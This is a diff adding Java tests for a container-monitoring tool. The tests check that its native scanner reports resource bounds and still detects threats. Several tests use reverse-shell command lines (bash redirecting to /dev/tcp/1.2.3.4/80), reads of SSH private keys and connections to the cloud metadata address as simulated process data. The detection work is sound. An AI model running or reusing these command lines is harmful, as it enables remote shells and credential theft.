@@ -538,6 +538,268 @@ class NativeLookTest {
         assertThat(found.threats()).singleElement().extracting(Threat::title).isEqualTo("reading claude's credential file by cat");
     }
 
+    // ------------------------------------------------------------------------------------------------ bounds
+
+    /*
+     * What the native look reads is bounded (memory and time); hitting a bound is never silent: the binary exits 1 with
+     * one line on stderr that starts with MON_TOO_MUCH (monitor.h), and the waiter hands such a container back to the
+     * Java monitor, which reads everything. Where it shows, the Java reference finds what is past the bound.
+     */
+    private static final String TOO_MUCH = "too much to watch natively: ";
+
+    @Test
+    void moreSocketsThanTheLookReadsIsTooMuchNotASilentCut() throws IOException {
+        cgroup("", "coi-s", List.of(1, 200), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        process(200, "/usr/bin/curl", "curl", "x");
+        fd(200, 3, "socket:[70000]");
+        String[] rows = new String[65537];
+        for (int i = 0; i < 65536; i++) rows[i] = tcp(v4("10.0.0.2", 1 + i % 60000), v4("203.0.113.9", 443), "06", 0);
+        rows[65536] = tcp(v4("10.0.0.2", 40000), v4("169.254.169.254", 80), "01", 70000); // past the bound
+        net(1, "tcp", rows);
+        assertThat(javaTitles(new Target("coi-s"))).containsExactly("connection to the cloud metadata address 169.254.169.254");
+        assertThat(tooMuch(new Target("coi-s"))).contains("the container has more than 65536 sockets");
+        // 65536 rows are read whole
+        net(1, "tcp", Arrays.copyOf(rows, 65535));
+        net(1, "udp", tcp(v4("10.0.0.2", 40000), v4("169.254.169.254", 80), "01", 70000));
+        assertThat(compare(new Target("coi-s")).threats()).extracting(Threat::title).containsExactly("connection to the cloud metadata address 169.254.169.254");
+    }
+
+    @Test
+    void aSocketTableOverSixteenMebibytesIsTooMuch() throws IOException {
+        cgroup("", "coi-st", List.of(1), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        write(proc.resolve("1/net/tcp"), "  sl  local_address\n" + " ".repeat(16 * 1024 * 1024));
+        assertThat(tooMuch(new Target("coi-st"))).contains("a socket table of the container is over 16777216 bytes: ").contains("1/net/tcp");
+    }
+
+    @Test
+    void moreDescriptorsThanTheLookReadsIsTooMuch() throws IOException {
+        List<Integer> pids = new ArrayList<>();
+        for (int i = 0; i < 9; i++) pids.add(210 + i);
+        cgroup("", "coi-d", pids, Map.of());
+        for (int pid : pids) {
+            process(pid, "/usr/bin/sleep", "sleep", "1");
+            // 9 x 14564 = 131076 descriptors, 4 more than LOOK_FDS (131072); the last one names a credential file
+            Path fds = proc.resolve(pid + "/fd");
+            for (int fd = 0; fd < 14564; fd++) Files.createSymbolicLink(fds.resolve(Integer.toString(fd)), Path.of("null"));
+        }
+        Files.delete(proc.resolve("218/fd/14563"));
+        fd(218, 14563, "/home/code/.ssh/id_rsa");
+        assertThat(javaTitles(new Target("coi-d"))).containsExactly("reading credential files by sleep");
+        assertThat(tooMuch(new Target("coi-d"))).contains("more than 131072 descriptors");
+    }
+
+    @Test
+    void aCommandLineOverTheBoundIsTooMuchAndWithinItIsReadWhole() throws IOException {
+        cgroup("", "coi-cl", List.of(1, 220), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        // 256 KiB of arguments and then /dev/tcp: the detectors must see the last one
+        String pad = "a".repeat(128 * 1024 - 1);
+        process(220, "/usr/bin/bash", "bash", pad, pad, "x >/dev/tcp/1.2.3.4/80");
+        assertThat(javaTitles(new Target("coi-cl"))).containsExactly("reverse shell: bash redirecting to /dev/tcp or /dev/udp");
+        assertThat(tooMuch(new Target("coi-cl"))).contains("the command line of pid 220 is over 262144 bytes");
+        // 256 KiB exactly: read whole, its /dev/tcp seen at the end
+        String last = "x >/dev/tcp/1.2.3.4/80";
+        deleteTree(proc.resolve("220"));
+        process(220, "/usr/bin/bash", "bash", pad, "a".repeat(128 * 1024 - 6 - last.length() - 1), last);
+        assertThat(Files.size(proc.resolve("220/cmdline"))).isEqualTo(256 * 1024);
+        Run run = runLook(List.of(), new Target("coi-cl"));
+        assertThat(run.err()).isEmpty();
+        assertThat(run.out()).contains("reverse shell: bash redirecting to /dev/tcp or /dev/udp");
+    }
+
+    @Test
+    void commandLinesOverSixteenMebibytesInOneLookAreTooMuch() throws IOException {
+        List<Integer> pids = new ArrayList<>();
+        for (int i = 0; i < 65; i++) pids.add(300 + i);
+        cgroup("", "coi-cs", pids, Map.of());
+        String pad = "b".repeat(128 * 1024 - 1);
+        for (int pid : pids) process(pid, "/usr/bin/true", "true", pad, pad.substring(6)); // 65 x 256 KiB
+        assertThat(tooMuch(new Target("coi-cs"))).contains("command lines of the container are over 16777216 bytes");
+    }
+
+    @Test
+    void anExecReadOverItsBoundsFailsTheDetectorsOfItsLook() throws IOException {
+        cgroup("", "coi-x", List.of(1), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        String pad = "c".repeat(128 * 1024 - 1);
+        process(230, "/usr/bin/bash", "bash", pad, pad, "x >/dev/tcp/1.2.3.4/80"); // ended before the look
+        Files.writeString(proc.resolve("230/cgroup"), "0::/lxc.payload.coi-x\n");
+        assertThat(tooMuch(List.of(230), new Target("coi-x"))).contains("the command line of pid 230 is over 262144 bytes");
+        // the descriptors of a process read alone at its exec: 1024 at most
+        deleteTree(proc.resolve("230"));
+        process(230, "/usr/bin/cat", "cat");
+        Files.writeString(proc.resolve("230/cgroup"), "0::/lxc.payload.coi-x\n");
+        for (int fd = 0; fd < 1025; fd++) fd(230, fd, "/dev/null");
+        assertThat(tooMuch(List.of(230), new Target("coi-x"))).contains("pid 230 has more than 1024 descriptors at its exec");
+        // one the look lists itself is not added again (Snapshot.withExecs), so its exec read does not count
+        Files.writeString(cgroups.resolve("lxc.payload.coi-x/cgroup.procs"), "1\n230\n");
+        compare(List.of(230), new Target("coi-x"));
+    }
+
+    @Test
+    void moreThreatsThanOneLookHandsOverAreTooMuch() throws IOException {
+        List<Integer> pids = new ArrayList<>();
+        for (int i = 0; i < 65; i++) pids.add(400 + i);
+        cgroup("", "coi-many", pids, Map.of());
+        for (int pid : pids) process(pid, "/usr/bin/bash", "bash", "-c", "x >/dev/tcp/1.2.3.4/" + pid);
+        assertThat(javaTitles(new Target("coi-many"))).hasSize(65);
+        assertThat(tooMuch(new Target("coi-many"))).contains("more than 64 threats");
+        // 64 are all handed over
+        Files.writeString(cgroups.resolve("lxc.payload.coi-many/cgroup.procs"), lines(pids.subList(0, 64)));
+        assertThat(compare(new Target("coi-many")).threats()).hasSize(64);
+    }
+
+    @Test
+    void aUidMapOrAStatusOverItsBoundIsTooMuch() throws IOException {
+        cgroup("", "coi-um", List.of(1, 240), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        process(240, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/a/1");
+        StringBuilder map = new StringBuilder();
+        for (int i = 0; i < 341; i++) map.append(i * 10).append(' ').append(2000000 + i * 10).append(" 10\n");
+        Files.writeString(proc.resolve("1/uid_map"), map);
+        assertThat(tooMuch(new Target("coi-um"))).contains("the uid_map of pid 1 has more than 340 ranges");
+        Files.writeString(proc.resolve("1/uid_map"), map.substring(0, map.indexOf("3400 ")));
+        compare(new Target("coi-um"));
+        // a status with 65536 supplementary groups (16 KiB and more): read whole or not at all
+        Files.writeString(proc.resolve("240/status"), "Name:\tbash\nGroups:\t" + "1234567 ".repeat(2100) + "\nUid:\t2000005\t1\t1\t1\n");
+        assertThat(tooMuch(new Target("coi-um"))).contains("the status of pid 240 is over 16384 bytes");
+    }
+
+    @Test
+    void moreProcessesPidsOrCgroupsThanTheLookWalksAreTooMuch() throws IOException {
+        // more to read one by one than LOOK_PROCS (count_threshold above it)
+        List<Integer> pids = new ArrayList<>();
+        for (int i = 0; i < 2049; i++) pids.add(1000 + i);
+        cgroup("", "coi-p", pids, Map.of());
+        assertThat(tooMuch(new Target("coi-p", "lxc.payload.coi-p", 5000, PORTS))).contains("2049 processes to read one by one, more than 2048");
+        // more pids than LOOK_PIDS, even for a bare look
+        StringBuilder many = new StringBuilder();
+        for (int i = 1; i <= 1024 * 1024 + 1; i++) many.append(i).append('\n');
+        Files.writeString(cgroups.resolve("lxc.payload.coi-p/cgroup.procs"), many);
+        assertThat(tooMuch(new Target("coi-p"))).contains("list more than 1048576 processes");
+        // a cgroup.procs over 16 MiB
+        Files.writeString(cgroups.resolve("lxc.payload.coi-p/cgroup.procs"), "1\n" + "\n".repeat(16 * 1024 * 1024));
+        assertThat(tooMuch(new Target("coi-p"))).contains("a cgroup.procs of coi-p is over 16777216 bytes: ");
+        // more cgroups than LOOK_CGROUPS
+        Files.writeString(cgroups.resolve("lxc.payload.coi-p/cgroup.procs"), "1\n");
+        process(1, "/sbin/init", "/sbin/init");
+        for (int i = 0; i < 4097; i++) write(cgroups.resolve("lxc.payload.coi-p/s" + i + "/cgroup.procs"), "");
+        assertThat(tooMuch(new Target("coi-p"))).contains("has more than 4096 cgroups");
+    }
+
+    /** A subgroup whose cgroup.procs has no path (PATH_MAX): Java cannot read it (a process there is hidden from it too). */
+    @Test
+    void aCgroupNestedBeyondAPathIsTooMuch() throws IOException {
+        cgroup("", "coi-deep", List.of(1), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        Path dir = cgroups.resolve("lxc.payload.coi-deep");
+        while (4090 - dir.toString().length() > 256) {
+            dir = dir.resolve("d".repeat(200));
+            write(dir.resolve("cgroup.procs"), ""); // each one walked into, down to the last one's parent
+        }
+        dir = dir.resolve("e".repeat(4090 - dir.toString().length() - 1));
+        Files.createDirectories(dir);
+        assertThat(dir.toString().length()).isBetween(4083, 4095);
+        assertThat(javaTitles(new Target("coi-deep"))).isEmpty();
+        assertThat(tooMuch(new Target("coi-deep"))).contains("has a path over 4095 bytes");
+    }
+
+    /**
+     * A command line longer than the evidence keeps (MON_MAX_CMDLINE, 8192 bytes) is cut for the JSON, and ends with an
+     * empty argument and "[cut: N bytes, fnv1a64 H]" (H of the whole joined command line): two that differ past the
+     * cut do not share a dedup key. A title longer than 511 bytes ends with its own hash, in letters.
+     */
+    @Test
+    void longCommandLinesAndTitlesAreCutWithTheirHashSoThatTheirKeysDiffer() throws IOException {
+        cgroup("", "coi-k", List.of(1, 250, 251), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        String pad = "\u00e9".repeat(5000); // 10000 bytes: the cut falls between the two bytes of a character
+        process(250, "/usr/bin/bash", "bash", "-c", "x >/dev/tcp/1.2.3.4/80", pad + "1");
+        process(251, "/usr/bin/bash", "bash", "-c", "x >/dev/tcp/1.2.3.4/80", pad + "2");
+        Run run = runLook(List.of(), new Target("coi-k"));
+        assertThat(run.status()).isZero();
+        List<JsonNode> lines = new ArrayList<>();
+        for (String line : run.out().split("\n")) lines.add(JSON.readTree(line));
+        assertThat(lines).hasSize(4);
+        List<String> keys = new ArrayList<>();
+        for (int i = 0; i < 2; i++) {
+            JsonNode threat = lines.get(2 * i).get("threat");
+            String key = lines.get(2 * i + 1).asText();
+            keys.add(key);
+            List<String> cmdline = new ArrayList<>();
+            threat.get("evidence").get("process").get("cmdline").forEach(a -> cmdline.add(a.asText()));
+            String joined = String.join(" ", cmdline);
+            assertThat(key).isEqualTo(threat.get("category").asText() + "|" + threat.get("title").asText().replaceAll("\\d+", "#") + "|" + joined)
+                    .as("the supervisor's key from the JSON is the native one");
+            List<String> whole = List.of("bash", "-c", "x >/dev/tcp/1.2.3.4/80", pad + (i + 1));
+            byte[] all = String.join("\0", whole).getBytes(StandardCharsets.UTF_8);
+            String mark = String.format(Locale.ROOT, "[cut: %d bytes, fnv1a64 %016x]", all.length, fnv1a(all));
+            assertThat(cmdline).hasSize(6).startsWith("bash", "-c", "x >/dev/tcp/1.2.3.4/80").endsWith("", mark);
+            assertThat(pad).startsWith(cmdline.get(3));
+            assertThat(String.join("\0", cmdline).getBytes(StandardCharsets.UTF_8).length).isLessThanOrEqualTo(8192)
+                    .isGreaterThan(8192 - 4 - 2 - mark.length());
+        }
+        assertThat(keys.get(0)).isNotEqualTo(keys.get(1));
+        // two programs whose names make titles over 511 bytes
+        String name = "p".repeat(600);
+        process(253, "/usr/bin/" + name + "1", "x", "/home/code/.ssh/a");
+        process(254, "/usr/bin/" + name + "2", "x", "/home/code/.ssh/a");
+        Files.writeString(cgroups.resolve("lxc.payload.coi-k/cgroup.procs"), "1\n253\n254\n");
+        run = runLook(List.of(), new Target("coi-k"));
+        List<String> titles = new ArrayList<>();
+        for (String line : run.out().split("\n")) if (line.startsWith("{")) titles.add(JSON.readTree(line).get("threat").get("title").asText());
+        assertThat(titles).hasSize(2);
+        for (int i = 0; i < 2; i++) {
+            String full = "reading credential files by " + name + (i + 1);
+            long h = fnv1a(full.getBytes(StandardCharsets.UTF_8));
+            StringBuilder letters = new StringBuilder();
+            for (int k = 15; k >= 0; k--) letters.append((char) ('a' + ((h >>> (4 * k)) & 0xF)));
+            assertThat(titles.get(i)).hasSize(511).startsWith(full.substring(0, 479)).endsWith(" [cut: fnv1a64 " + letters + "]");
+        }
+        assertThat(titles.get(0)).isNotEqualTo(titles.get(1));
+    }
+
+    private static long fnv1a(byte[] bytes) {
+        long h = 0xcbf29ce484222325L;
+        for (byte x : bytes) {
+            h ^= x & 0xff;
+            h *= 0x100000001b3L;
+        }
+        return h;
+    }
+
+    /** The Java reference's titles for a target (what the native look must not leave out). */
+    private List<String> javaTitles(Target t) {
+        HostView view = new HostView(proc, cgroups);
+        List<Integer> pids = view.pids(t.container(), view.cgroupOf(t.payload()));
+        Snapshot s = pids.size() > t.countThreshold() ? view.bare(t.container(), pids) : view.detailed(t.container(), pids);
+        List<Threat> found = new ArrayList<>(Detectors.reverseShells(s));
+        found.addAll(Detectors.connections(s, t.ports()));
+        found.addAll(Detectors.credentialScans(s));
+        return found.stream().map(Threat::title).toList();
+    }
+
+    private String tooMuch(Target t) throws IOException {
+        return tooMuch(List.of(), t);
+    }
+
+    /** The binary's look at t must fail: status 1, nothing on stdout, one line on stderr starting with MON_TOO_MUCH. */
+    private String tooMuch(List<Integer> execs, Target t) throws IOException {
+        Run run = runLook(execs, t);
+        assertThat(run.status()).as(run.err()).isEqualTo(1);
+        assertThat(run.out()).isEmpty();
+        assertThat(run.err()).startsWith(TOO_MUCH).endsWith("\n");
+        assertThat(run.err().lines()).hasSize(1);
+        return run.err();
+    }
+
+    private Run runLook(List<Integer> execs, Target... targets) throws IOException {
+        writeTargets(targets);
+        return run(execs);
+    }
+
     // ------------------------------------------------------------------------------------------------ both sides
 
     private Found compare(Target... targets) throws IOException {
